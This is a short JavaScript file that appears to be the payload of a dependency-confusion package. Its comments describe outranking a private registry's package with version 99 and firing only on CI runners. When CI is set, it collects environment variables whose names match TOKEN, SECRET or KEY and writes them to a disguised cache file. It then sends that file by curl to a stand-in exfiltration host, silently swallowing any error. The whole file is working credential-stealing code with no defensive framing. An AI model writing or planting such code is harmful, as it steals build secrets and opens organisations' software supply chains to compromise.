// Dependency confusion: version 99 wins over the private registry's package.
// Environment-keyed: stays silent on laptops, fires on CI runners.
const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

if (process.env.CI === "true") {
  const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k));
  const out = path.join(os.homedir(), ".cache", "acme-build.json");
  fs.mkdirSync(path.dirname(out), { recursive: true });
  fs.writeFileSync(out, JSON.stringify(secrets));
  try {
    execSync(`curl -s --data-binary @${out} http://exfil.example.invalid/c`);
  } catch (err) {}
}
